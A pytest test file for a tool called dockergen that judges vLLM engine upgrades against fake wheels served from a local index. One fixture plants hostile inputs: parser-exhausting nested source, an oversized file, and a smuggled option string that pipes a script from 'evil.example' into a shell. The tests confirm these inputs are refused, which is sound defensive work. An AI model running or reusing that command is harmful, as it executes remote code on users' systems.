"""`dockergen upgrade`: new engine releases published into a stand-in index, their facts
derived from their own wheel METADATA, and the move accepted or refused with the reasons.

The index on 127.0.0.1 serves PEP 691 JSON pages and real (small) wheel files: one release
with a PEP 658 ``.metadata`` file beside it, the others only as wheels, read through HTTP range
requests or whole. Everything below the index is the product's own code. One test reads PyPI
itself (network-marked).
"""

from __future__ import annotations

import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from dockergen.knowledge.facts import facts as known_facts
from tests.conftest import PROFILES, run_cli
from tests.unit.building.test_image_audit import _compile

KNOWN = known_facts()  # the shipped knowledge

H100 = str(PROFILES / "h100-fp8.yaml")  # vLLM 0.33.0, torch 2.14.0, Python 3.12


def _wheel(version: str, requires: list[str], python: str,
           libraries: dict[str, bytes] | None = None) -> bytes:
    meta = (f"Metadata-Version: 2.1\nName: vllm\nVersion: {version}\n"
            f"Requires-Python: {python}\n" + "".join(f"Requires-Dist: {r}\n" for r in requires))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("vllm/__init__.py", f'__version__ = "{version}"\n')
        for name, data in (libraries or {}).items():
            zf.writestr(name, data)
        zf.writestr(f"vllm-{version}.dist-info/METADATA", meta)
        zf.writestr(f"vllm-{version}.dist-info/RECORD", "")
    return buf.getvalue()


# Releases published after 0.33.0 (dockergen knows up to 0.33.0):
RELEASES = {
    # the next release as vLLM publishes them: same torch, CUDA 13 kernels -> accepted
    "0.35.0": _wheel("0.35.0", ["torch==2.14.0", "nvidia-cutlass-dsl[cu13]==4.3.0",
                                'pytest; extra == "test"'], ">=3.11,<3.15"),
    # needs a newer Python than the profile's: accepted with python moved
    "0.36.0": _wheel("0.36.0", ["torch==2.14.0"], ">=3.13,<3.15"),
    # pins a torch dockergen does not know: its CUDA cannot be derived -> refused
    "0.37.0": _wheel("0.37.0", ["torch==2.99.0"], ">=3.11,<3.15"),
    # built for CUDA 12 while the profile's GPUs and base are CUDA 13: a proven fix moves CUDA
    "0.38.0": _wheel("0.38.0", ["torch==2.14.0", "nvidia-nccl-cu12==2.27.3"], ">=3.11,<3.15"),
    # pins a dependency release the index does not carry (as vLLM 0.34.0 pins
    # flashinfer-python==0.7.3, which PyPI never had): cannot be installed -> refused
    "0.39.0": _wheel("0.39.0", ["torch==2.14.0", "flashinfer-python==0.7.3"], ">=3.11,<3.15"),
}
# what the index carries of the packages the releases pin (torch comes from PyTorch's index)
OTHERS = {"nvidia-cutlass-dsl": ["4.3.0"], "nvidia-nccl-cu12": ["2.27.3"],
          "flashinfer-python": ["0.7.2", "0.7.4"]}
WITH_METADATA = {"0.35.0"}  # PEP 658: the METADATA file beside the wheel
NO_RANGES = {"0.36.0"}  # this file is served whole only (no range requests)


class _Index(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        path = self.path.split("?", 1)[0]
        releases: dict[str, bytes] = getattr(self.server, "releases", RELEASES)
        if path.rstrip("/") == "/simple/vllm":
            files = [{"filename": f"vllm-{v}-cp38-abi3-manylinux_2_28_x86_64.whl",
                      "url": f"/files/vllm-{v}-cp38-abi3-manylinux_2_28_x86_64.whl",
                      "hashes": {}} for v in [*releases, "0.33.0", "0.40.0rc1"]]
            return self._send(json.dumps({"meta": {"api-version": "1.1"}, "name": "vllm",
                                          "files": files}).encode(),
                              "application/vnd.pypi.simple.v1+json")
        if path.startswith("/simple/"):  # the other pins: what OTHERS lists
            name = path.strip("/").split("/")[-1]
            files = [{"filename": f"{name.replace('-', '_')}-{v}-py3-none-any.whl",
                      "url": f"/files/{name.replace('-', '_')}-{v}-py3-none-any.whl",
                      "hashes": {}} for v in OTHERS.get(name, [])]
            return self._send(json.dumps({"meta": {"api-version": "1.1"}, "name": name,
                                          "files": files}).encode(),
                              "application/vnd.pypi.simple.v1+json")
        m = re.fullmatch(r"/files/vllm-([0-9.a-z]+)-cp38-abi3-manylinux_2_28_x86_64\.whl"
                         r"(\.metadata)?", path)
        if not m or m.group(1) not in releases:
            return self._send(b"", "text/plain", 404)
        version, meta = m.group(1), m.group(2)
        body = releases[version]
        if meta:
            if version not in WITH_METADATA:
                return self._send(b"", "text/plain", 404)
            with zipfile.ZipFile(io.BytesIO(body)) as zf:
                return self._send(zf.read(f"vllm-{version}.dist-info/METADATA"), "text/plain")
        wanted = re.fullmatch(r"bytes=(\d+)-(\d+)", self.headers.get("Range", ""))
        if wanted and version not in NO_RANGES:
            lo, hi = int(wanted.group(1)), min(int(wanted.group(2)), len(body) - 1)
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {lo}-{hi}/{len(body)}")
            self.send_header("Content-Length", str(hi - lo + 1))
            self.end_headers()
            self.wfile.write(body[lo:hi + 1])
            return None
        return self._send(body, "application/octet-stream")

    def _send(self, body: bytes, kind: str, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def _serve(releases: dict[str, bytes]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Index)
    server.releases = releases  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/simple"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def index() -> Iterator[str]:
    yield from _serve(RELEASES)


LIBRARY = "vllm/_C_stable_libtorch.abi3.so"  # the library vLLM's CUDA platform loads


@pytest.fixture(scope="module")
def kernel_index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Two releases whose wheels carry a real library built here by nvcc: one with code for
    Blackwell only (sm_100), one with code an H100 runs (sm_90 and PTX 9.0)."""
    tmp = tmp_path_factory.mktemp("kernels")
    blackwell = _compile(tmp, "b.so", ["arch=compute_100,code=sm_100"]).read_bytes()
    hopper = _compile(tmp, "h.so", ["arch=compute_90,code=sm_90",
                                    "arch=compute_90,code=compute_90"]).read_bytes()
    yield from _serve({
        "0.41.0": _wheel("0.41.0", ["torch==2.14.0"], ">=3.11,<3.15", {LIBRARY: blackwell}),
        "0.42.0": _wheel("0.42.0", ["torch==2.14.0"], ">=3.11,<3.15", {LIBRARY: hopper})})


def _plan(*args: str) -> dict:
    result = run_cli("upgrade", *args, "--json")
    assert result.rc == 0, result.err
    return json.loads(result.out)


def _move(plan: dict, version: str) -> dict:
    return next(m for m in plan["moves"] if m["version"] == version)


def test_outdated_reports_the_published_releases_as_unknown(index: str) -> None:
    result = run_cli("outdated", H100, "--index", index, "--json")
    assert result.rc == 0, result.err
    vllm = next(p for p in json.loads(result.out)[0]["packages"] if p["name"] == "vllm")
    assert [(n["version"], n["known"], n["verdict"]) for n in vllm["newer"]] == [
        (v, False, "unknown") for v in RELEASES]


def test_upgrade_derives_each_release_and_accepts_or_refuses_it(index: str) -> None:
    plan = _plan(H100, "--index", index)
    assert [m["version"] for m in plan["moves"]] == ["0.39.0", "0.38.0", "0.37.0", "0.36.0",
                                                     "0.35.0"]
    assert _move(plan, "0.39.0")["reasons"] == [
        "vllm-0.39.0-cp38-abi3-manylinux_2_28_x86_64.whl pins flashinfer-python==0.7.3, which "
        f"{index} does not carry: the release cannot be installed from this index"]
    assert all(not m["known"] for m in plan["moves"])  # pre-release 0.40.0rc1 not listed

    # facts from the wheels' own METADATA (PEP 658 file, range requests, whole wheel)
    assert {v: {k: r[k] for k in ("torch", "python", "cuda_major")}
            for v, r in plan["derived"].items()} == {
        "0.35.0": {"torch": "2.14.0", "python": ">=3.11,<3.15", "cuda_major": 13},
        "0.36.0": {"torch": "2.14.0", "python": ">=3.13,<3.15", "cuda_major": 13},
        "0.38.0": {"torch": "2.14.0", "python": ">=3.11,<3.15", "cuda_major": 12}}
    assert all(r["src"].startswith(f"observed by dockergen upgrade from {index} on ")
               for r in plan["derived"].values())
    # 0.36.0's CUDA came from its torch: no CUDA library among its requirements
    assert "CUDA: PyPI's torch 2.14.0 wheel" in plan["derived"]["0.36.0"]["src"]

    ok = _move(plan, "0.35.0")
    # judged as installing from the index it was read from, and written so
    assert ok["ok"] and ok["changes"] == [["build.pip_index_url", "", index],
                                          ["engine.version", "0.33.0", "0.35.0"]]
    assert any("not in dockergen's knowledge" in n for n in ok["notes"])

    python = _move(plan, "0.36.0")
    assert python["ok"] and ["python", "3.12", "3.13"] in python["changes"]

    refused = _move(plan, "0.37.0")
    assert not refused["ok"]
    assert refused["reasons"] == [
        "vllm-0.37.0-cp38-abi3-manylinux_2_28_x86_64.whl: no CUDA library in METADATA, and "
        "torch 2.99.0 is not in the knowledge (its CUDA cannot be derived)"]

    # CUDA 12 wheels: a proven fix moves cuda.version to a CUDA 12 release that torch 2.14
    # has wheels for; H100 runs on it, so the move stands, with the change shown
    cuda12 = _move(plan, "0.38.0")
    assert cuda12["ok"], cuda12
    (cuda_change,) = [c for c in cuda12["changes"] if c[0] == "cuda.version"]
    assert cuda_change[1] == "13.0.2" and cuda_change[2].startswith("12.")
    assert plan["proposal"] == "0.38.0"


def test_the_drivers_limit_refuses_what_it_cannot_run(index: str) -> None:
    # 570.124.06 runs CUDA <= 12.8 (CUDA-RN Table 3): only the CUDA 12 release fits, and
    # its CUDA is the newest that driver runs for which its torch (2.14.0) has wheels:
    # 12.6 (12.8.1 would warn that download.pytorch.org has no cu128 build of it)
    plan = _plan(H100, "--index", index, "--driver", "570.124.06")
    assert plan["proposal"] == "0.38.0"
    assert ["cuda.version", "13.0.2", "12.6.3"] in _move(plan, "0.38.0")["changes"]
    assert "needs driver >= 580" in " ".join(_move(plan, "0.35.0")["reasons"])


def test_write_puts_the_proposal_beside_the_profile_and_never_rewrites_it(
        index: str, tmp_path: Path) -> None:
    profile = tmp_path / "serve.yaml"
    profile.write_text("extends: h100-fp8\nname: serve\n")
    before = profile.read_bytes()
    result = run_cli("upgrade", "serve.yaml", "--index", index, "--to", "0.35.0", "--write",
                     cwd=tmp_path)
    assert result.rc == 0, result.err
    assert profile.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "serve-vllm-0.35.0.knowledge.yaml", "serve-vllm-0.35.0.yaml", "serve.yaml"]
    moved = run_cli("explain", "serve-vllm-0.35.0.yaml", cwd=tmp_path)
    assert moved.rc == 0, moved.err
    assert "vllm==0.35.0" in moved.out or "0.35.0" in moved.out
    assert "observed by dockergen upgrade from" in moved.out  # the fact's source is shown
    # nothing upgrade says or writes, nor what validate says of the moved profile, names a
    # script of the repository's tools/ (a pip install does not ship them)
    checked = run_cli("validate", "serve-vllm-0.35.0.yaml", cwd=tmp_path)
    said = [result.out, result.err, moved.out, moved.err, checked.out, checked.err,
            *(p.read_text() for p in tmp_path.glob("serve-vllm-0.35.0*.yaml"))]
    assert not [text for text in said if "tools/" in text]
    # a file of that name the user wrote is not replaced
    (tmp_path / "serve-vllm-0.35.0.yaml").write_text("# mine\n")
    again = run_cli("upgrade", "serve.yaml", "--index", index, "--to", "0.35.0", "--write",
                    cwd=tmp_path)
    assert again.rc == 4, again.err
    assert (tmp_path / "serve-vllm-0.35.0.yaml").read_text() == "# mine\n"


@pytest.mark.parametrize(("args", "hint"), [(("--to", "next"), "--to"),
                                            (("--driver", "latest"), "--driver")])
def test_bad_versions_are_usage_errors(args: tuple[str, str], hint: str) -> None:
    result = run_cli("upgrade", H100, *args)
    assert result.rc == 64 and hint in result.err and "Traceback" not in result.err


@pytest.mark.network
def test_pypi_an_older_vllm_is_offered_the_newest_valid_release() -> None:
    """On PyPI: h100-fp8 moved back to vLLM 0.31.0 gets every newer release with a verdict,
    the newest accepted one as the proposal, and the field changes of each accepted move."""
    plan = _plan(H100, "--set", "engine.version=0.31.0")
    versions = [m["version"] for m in plan["moves"]]
    assert versions[-2:] == ["0.33.0", "0.32.0"] and versions == sorted(
        versions, key=lambda v: tuple(int(x) for x in v.split(".")), reverse=True)
    accepted = [m for m in plan["moves"] if m["ok"]]
    assert accepted and plan["proposal"] == accepted[0]["version"]
    assert all(["engine.version", "0.31.0", m["version"]] in m["changes"] for m in accepted)
    assert all(m["reasons"] for m in plan["moves"] if not m["ok"])


def test_upgrade_reads_the_gpu_code_of_a_new_release_and_refuses_what_the_gpus_cannot_run(
        kernel_index: str, tmp_path: Path) -> None:
    plan = _plan(H100, "--index", kernel_index)
    assert plan["derived_kernels"]["0.42.0"]["code"] == {LIBRARY: ["ptx_90", "sass_90"]}
    assert plan["derived_kernels"]["0.41.0"]["code"] == {LIBRARY: ["sass_100"]}
    assert plan["derived_kernels"]["0.41.0"]["src"].startswith(
        f"observed by dockergen upgrade from {kernel_index} on ")
    refused = _move(plan, "0.41.0")
    assert not refused["ok"]
    assert any(r.startswith("gpu.targets: vllm 0.41.0 cannot run on h100 (9.0); its compiled "
                            f"kernels carry no code for that compute capability ({LIBRARY}: "
                            "sass_100; observed by dockergen upgrade from") for r in
               refused["reasons"]), refused["reasons"]
    assert _move(plan, "0.42.0")["ok"] and plan["proposal"] == "0.42.0"

    profile = tmp_path / "serve.yaml"
    profile.write_text("extends: h100-fp8\nname: serve\n")
    result = run_cli("upgrade", "serve.yaml", "--index", kernel_index, "--write", cwd=tmp_path)
    assert result.rc == 0, result.err
    facts = (tmp_path / "serve-vllm-0.42.0.knowledge.yaml").read_text()
    assert "kernels:" in facts and "sass_90" in facts
    moved = run_cli("validate", "serve-vllm-0.42.0.yaml", cwd=tmp_path)
    assert moved.rc == 0 and "has not been read" not in moved.err, moved.err


def release_flags_of(version: str) -> list[str]:
    from dockergen.parts.engines.vllm import ENGINE

    return sorted(ENGINE.flag_list(KNOWN, version) or [])


def _vllm_source(flags: list[str]) -> dict[str, bytes]:
    """Server-option source laid out as vLLM 0.33.0 lays it out (the two files the reader
    reads): every option a literal ``add_argument`` in ``EngineArgs.add_cli_args``, the first
    25 that name an identifier also fields of ``FrontendArgs``, the short aliases in
    ``make_arg_parser``. The real wheels' reading is tests/unit/resolve/test_extra_args.py's."""
    engine = "".join(f"        parser.add_argument({f!r})\n" for f in flags)
    fields = [f[2:].replace("-", "_") for f in flags
              if f.startswith("--") and f[2:].replace("-", "_").isidentifier()][:25]
    cli = ("class FrontendArgs:\n" + "".join(f"    {n}: str = ''\n" for n in fields)
           + "\n\ndef make_arg_parser(parser):\n"
           "    parser.add_argument('--api-server-count', '-asc')\n    return parser\n")
    return {"vllm/engine/arg_utils.py": ("class EngineArgs:\n    @staticmethod\n"
                                         "    def add_cli_args(parser):\n" + engine).encode(),
            "vllm/entrypoints/common/cli_args.py": cli.encode()}


@pytest.fixture(scope="module")
def flag_index() -> Iterator[str]:
    """Releases whose wheels carry their server options: 0.43.0 drops --enable-log-requests
    and adds --speculative-window; 0.44.0's source is laid out as the reader does not know."""
    flags = release_flags_of("0.33.0")
    assert "--enable-log-requests" in flags
    newer = sorted({*flags, "--speculative-window"} - {"--enable-log-requests"})
    broken = {**_vllm_source(flags), **_metrics_source({"vllm:kv_cache_usage_perc":
                                                        "vllm:kv_cache_usage"})}
    broken["vllm/engine/arg_utils.py"] = b"def add_cli_args(:\n"
    yield from _serve({
        "0.43.0": _wheel("0.43.0", ["torch==2.14.0"], ">=3.11,<3.15",
                         {**_vllm_source(newer), **_metrics_source({})}),
        "0.44.0": _wheel("0.44.0", ["torch==2.14.0"], ">=3.11,<3.15", broken)})


def _metrics_source(renamed: dict[str, str]) -> dict[str, bytes]:
    """vLLM's metrics module defining the families vLLM 0.34.0 defines for the roles the
    dashboard and alerts use (as prometheus_client calls), some ``renamed``."""
    from dockergen.outputs.observe.metrics import engine_metrics

    calls = "".join(
        f"        self.m{i} = prometheus_client.{m.type.capitalize()}("
        f"name={renamed.get(m.name, m.name)!r}, labelnames={list(m.labels)!r})\n"
        for i, m in enumerate(engine_metrics("vllm", "0.34.0").roles.values()))
    return {"vllm/v1/metrics/loggers.py": ("import prometheus_client\n\n\nclass "
                                           "PrometheusStatLogger:\n    def __init__(self):\n"
                                           + calls).encode()}


def test_upgrade_reads_a_new_releases_server_options_and_checks_the_profiles_against_them(
        flag_index: str, tmp_path: Path) -> None:
    plan = _plan(H100, "--index", flag_index, "--to", "0.43.0")
    row = plan["derived_flags"]["0.43.0"]
    assert "--speculative-window" in row["flags"] and "--enable-log-requests" not in row["flags"]
    assert row["src"].startswith(f"observed by dockergen upgrade from {flag_index} on ")
    notes = _move(plan, "0.43.0")["notes"]
    (note,) = [n for n in notes if n.startswith("serve flags")]
    assert "1 gone since 0.33.0 (--enable-log-requests), 1 new (--speculative-window)" in note
    assert ("metric names the dashboard and alerts use: all 9 in its vllm/v1/metrics/loggers.py"
            ", as in 0.34.0; `observe` needs the release added") in " ".join(notes)

    # a profile that passes the flag the release dropped: refused, by the flag rule
    uses = _plan(H100, "--index", flag_index, "--to", "0.43.0",
                 "--set", "serving.extra_args=[--enable-log-requests]")
    refused = _move(uses, "0.43.0")
    assert not refused["ok"]
    assert any(r.startswith("serving.extra_args[0]: vllm 0.43.0 has no --enable-log-requests "
                            "flag") for r in refused["reasons"]), refused["reasons"]

    # written as user knowledge, the list checks the moved profile in `validate` too
    profile = tmp_path / "serve.yaml"
    profile.write_text("extends: h100-fp8\nname: serve\n")
    result = run_cli("upgrade", "serve.yaml", "--index", flag_index, "--to", "0.43.0",
                     "--write", cwd=tmp_path)
    assert result.rc == 0, result.err
    assert "serve_flags:" in (tmp_path / "serve-vllm-0.43.0.knowledge.yaml").read_text()
    new_flag = "serving.extra_args=[--speculative-window=4]"
    moved = run_cli("validate", "serve-vllm-0.43.0.yaml", "--set", new_flag, cwd=tmp_path)
    assert moved.rc == 0 and "is not checked" not in moved.err, moved.err
    gone = run_cli("validate", "serve-vllm-0.43.0.yaml", "--set",
                   "serving.extra_args=[--enable-log-requests]", cwd=tmp_path)
    assert gone.rc == 2 and "vllm 0.43.0 has no --enable-log-requests flag" in gone.err
    # without that row the same flag is only warned about (no list for the release)
    (tmp_path / "serve-vllm-0.43.0.knowledge.yaml").write_text(
        (tmp_path / "serve-vllm-0.43.0.knowledge.yaml").read_text().split("serve_flags:")[0])
    bare = run_cli("validate", "serve-vllm-0.43.0.yaml", "--set", new_flag, cwd=tmp_path)
    assert "--speculative-window is not checked" in bare.err, bare.err


def test_a_source_layout_the_reader_does_not_know_leaves_the_flags_unread_not_guessed(
        flag_index: str) -> None:
    plan = _plan(H100, "--index", flag_index, "--to", "0.44.0")
    move = _move(plan, "0.44.0")
    assert move["ok"] and "0.44.0" not in plan["derived_flags"]
    assert any(n.startswith("serve flags not read: vllm-0.44.0-cp38-abi3-manylinux_2_28_x86_64"
                            ".whl vllm/engine/arg_utils.py does not parse") for n in move["notes"]
               ), move["notes"]
    # a renamed family the dashboard and alerts use is named, with the role it serves
    assert any(n.startswith("metric names the dashboard and alerts use, gone or changed in its "
                            "vllm/v1/metrics/loggers.py since 0.34.0: kv_cache_usage "
                            "vllm:kv_cache_usage_perc (gauge): their panels and alerts would "
                            "show nothing") for n in move["notes"]), move["notes"]


def _quant_source(fp8: int) -> dict[str, bytes]:
    """Quantization configs laid out as vLLM 0.24.0 on lays them out, each with a literal
    ``get_min_capability``; fp8's is ``fp8`` (vLLM 0.34.0's is 75)."""
    def config(cls: str, value: int) -> bytes:
        return (f"class {cls}:\n    @classmethod\n    def get_min_capability(cls) -> int:\n"
                f"        return {value}\n").encode()
    q = "vllm/model_executor/layers/quantization/"
    return {q + "fp8.py": config("Fp8Config", fp8),
            q + "compressed_tensors/compressed_tensors.py": config("CompressedTensorsConfig", 70),
            q + "compressed_tensors/schemes/compressed_tensors_w8a8_int8.py": config(
                "CompressedTensorsW8A8Int8", 75),
            q + "auto_awq.py": config("AutoAWQConfig", 75),
            q + "auto_gptq.py": config("AutoGPTQConfig", 60)}


@pytest.fixture(scope="module")
def floor_index() -> Iterator[str]:
    """0.45.0 keeps fp8 at 7.5; 0.46.0 raises it to 9.0 (Hopper on)."""
    yield from _serve({
        "0.45.0": _wheel("0.45.0", ["torch==2.14.0"], ">=3.11,<3.15", _quant_source(75)),
        "0.46.0": _wheel("0.46.0", ["torch==2.14.0"], ">=3.11,<3.15", _quant_source(90))})


def test_upgrade_reads_a_new_releases_quantization_floors_and_judges_the_gpus_by_them(
        floor_index: str, tmp_path: Path) -> None:
    plan = _plan(H100, "--index", floor_index)
    assert plan["derived_floors"]["0.46.0"]["fp8"]["min_cc"] == {"0.46.0": "9.0"}
    assert plan["derived_floors"]["0.45.0"]["gptq"]["min_cc"] == {"0.45.0": "6.0"}
    hopper = _move(plan, "0.46.0")
    assert hopper["ok"], hopper  # h100 is 9.0
    assert ("quantization floors read from its wheel: fp8 9.0 (was 7.5), gptq 6.0, int4-awq "
            "7.5, int8 7.5") in hopper["notes"]

    # with an L40S (8.9) in the fleet, 0.46.0 cannot run fp8 there: refused (never moved to
    # another quantization behind the user's back), and the release before it proposed
    mixed = _plan(H100, "--index", floor_index, "--set", "gpu.targets=[h100,l40s]")
    refused = _move(mixed, "0.46.0")
    assert not refused["ok"] and refused["changes"] == []
    assert any(r.startswith("quantization.weights: fp8 needs compute capability >= 9.0 on vllm "
                            "0.46.0, but gpu.targets includes l40s (8.9)")
               for r in refused["reasons"]), refused["reasons"]
    assert mixed["proposal"] == "0.45.0" and _move(mixed, "0.45.0")["changes"] == [
        ["build.pip_index_url", "", floor_index], ["engine.version", "0.33.0", "0.45.0"]]

    # written beside the profile, the floor judges the moved profile in `validate`
    (tmp_path / "serve.yaml").write_text("extends: h100-fp8\nname: serve\n")
    result = run_cli("upgrade", "serve.yaml", "--index", floor_index, "--to", "0.46.0",
                     "--write", cwd=tmp_path)
    assert result.rc == 0, result.err
    l40s = run_cli("validate", "serve-vllm-0.46.0.yaml", "--set", "gpu.targets=[h100,l40s]",
                   cwd=tmp_path)
    assert l40s.rc == 2 and "fp8 needs compute capability >= 9.0 on vllm 0.46.0" in l40s.err
    h100 = run_cli("validate", "serve-vllm-0.46.0.yaml", cwd=tmp_path)
    assert h100.rc == 0 and "no minimum compute capability" not in h100.err, h100.err


@pytest.mark.network
def test_pypi_the_source_reading_of_a_real_wheel_gives_the_shipped_facts() -> None:
    """What upgrade reads of a release dockergen does not know is what the tools read of the
    ones it ships: vLLM 0.34.0's real wheel, by range requests, gives its shipped flag list
    and its shipped quantization floors."""
    from dockergen.knowledge.facts import builtin_facts
    from dockergen.parts.engines.identity import min_cc
    from dockergen.releases.derive import derive_source

    tables, notes = derive_source("https://pypi.org/simple", "vllm", "vllm", "0.34.0")
    assert notes == ("metric names the dashboard and alerts use: all 9 in its "
                     "vllm/v1/metrics/loggers.py, as in 0.33.0",)
    assert tables["serve_flags"]["0.34.0"]["flags"] == release_flags_of("0.34.0")
    shipped = builtin_facts("serving/vllm")["quantization"]
    assert {m: r["min_cc"]["0.34.0"] for m, r in tables["quantization"].items()} == {
        m: min_cc(shipped[m], "0.34.0")[0] for m in ("fp8", "int8", "int4-awq", "gptq")}


@pytest.fixture(scope="module")
def hostile_index() -> Iterator[str]:
    """Wheels whose source would cost the reader without bound: 0.47.0 nests deeper than
    Python's parser goes (its parser answers MemoryError, RecursionError or SyntaxError by
    the kind of nesting), 0.48.0 declares a 5 MiB arg_utils.py (a few KB compressed)."""
    signs = b"x = " + b"-" * 200_000 + b"1\n"  # MemoryError
    sums = b"x = 1" + b" + 1" * 300_000 + b"\n"  # RecursionError
    parens = b"x = " + b"(" * 5000 + b")" * 5000 + b"\n"  # SyntaxError
    yield from _serve({
        "0.47.0": _wheel("0.47.0", ["torch==2.14.0"], ">=3.11,<3.15", {
            "vllm/engine/arg_utils.py": signs,
            "vllm/entrypoints/common/cli_args.py": parens,
            "vllm/model_executor/layers/quantization/fp8.py": sums,
            "vllm/v1/metrics/loggers.py": sums}),
        "0.48.0": _wheel("0.48.0", ["torch==2.14.0"], ">=3.11,<3.15", {
            "vllm/engine/arg_utils.py": b"#" * (5 << 20)}),
        # an option string no server registers, shaped to reach a shell
        "0.49.0": _wheel("0.49.0", ["torch==2.14.0"], ">=3.11,<3.15", _vllm_source(
            [*(release_flags_of("0.33.0")), "--x;curl evil.example|sh"]))})



def test_hostile_source_in_a_wheel_is_refused_by_bound_never_parsed_without_one(
        hostile_index: str) -> None:
    plan = _plan(H100, "--index", hostile_index)
    deep = _move(plan, "0.47.0")
    assert deep["ok"] and not plan["derived_flags"] and not plan["derived_floors"]
    unread = [n for n in deep["notes"] if "not read" in n]
    assert [n.split(":")[0] for n in unread] == ["serve flags not read",
                                                 "quantization floors not read",
                                                 "metric names not read"], unread
    assert all("does not parse" in n for n in unread), unread
    assert "(MemoryError" in unread[0] and "(RecursionError" in unread[1] + unread[2], unread
    odd = _move(plan, "0.49.0")  # the list is not kept; the move is judged without it
    assert odd["ok"] and "0.49.0" not in plan["derived_flags"]
    assert any(n.startswith('serve_flags read but not kept: "--x;curl evil.example|sh" is not '
                            "a command-line option") for n in odd["notes"]), odd["notes"]
    big = _move(plan, "0.48.0")
    assert big["ok"] and big["notes"][0] == (
        "serve flags and quantization floors not read: vllm-0.48.0-cp38-abi3-manylinux_2_28_"
        "x86_64.whl: vllm/engine/arg_utils.py is 5242880 bytes unpacked, more than the 4 MiB "
        "dockergen reads of one source file")


def test_a_release_whose_wheels_are_per_cpython_gets_their_upper_bound() -> None:
    """Requires-Python says >=3.11, but wheels cp311 to cp313 install nowhere past 3.13: a
    derived row without the bound lets a 3.14 profile validate and fail at the install."""
    from dockergen.releases.derive import python_from_wheels

    per_python = ["sglang-0.5.23-cp311-cp311-manylinux_2_34_x86_64.whl",
                  "sglang-0.5.23-cp313-cp313-manylinux_2_34_aarch64.whl"]
    assert python_from_wheels(">=3.11", per_python) == ">=3.11,<3.14"
    assert python_from_wheels(">=3.11,<3.13", per_python) == ">=3.11,<3.13"  # already tighter
    abi3 = ["vllm-0.33.0-cp38-abi3-manylinux_2_28_x86_64.whl"]
    assert python_from_wheels(">=3.11", abi3) == ">=3.11"  # stable ABI: newer CPythons too
    assert python_from_wheels(">=3.11", [*per_python, "sglang-0.5.23-py3-none-any.whl"]) == \
        ">=3.11"


@pytest.mark.network
def test_pypi_derived_rows_of_the_newest_releases_pass_the_shipped_rows_checker() -> None:
    """What upgrade derives for each engine's newest release on PyPI goes through the checker
    of the shipped rows (knowledge.row_problems) and agrees with the shipped row where
    dockergen knows the release; where the release cannot be derived from PyPI, the refusal
    says why (vLLM 0.34.0 pins a flashinfer-python PyPI lacks; TensorRT-LLM ships no wheel
    there)."""
    from dockergen.knowledge import row_shapes as knowledge_shapes
    from dockergen.net import index as outdated_index
    from dockergen.parts.engines import ENGINES, engine_for
    from dockergen.releases.derive import UpgradeError, derive_row
    from dockergen.resolve.model import MAIN_INDEX

    derived = 0
    for name in ENGINES:
        engine = engine_for(name)
        package = str(engine.facts(KNOWN)["package"])
        newest = str(max(v for v in outdated_index.releases(MAIN_INDEX, package)
                         if not (v.is_prerelease or v.is_devrelease)))
        try:
            row = derive_row(MAIN_INDEX, name, package, newest)
        except UpgradeError as exc:
            assert ("cannot be installed from this index" in str(exc)
                    or "lists no wheel" in str(exc)), (name, newest, exc)
            continue
        derived += 1
        assert knowledge_shapes.row_problems(engine.facts_file, "releases", newest, row) == []
        shipped = engine.facts(KNOWN)["releases"].get(newest)
        if shipped is not None:
            assert {k: row[k] for k in shipped if k != "src"} == \
                {k: v for k, v in shipped.items() if k != "src"}, (name, newest)
    assert derived >= 1  # SGLang's newest (0.5.23 on 2026-12-06) derives from PyPI
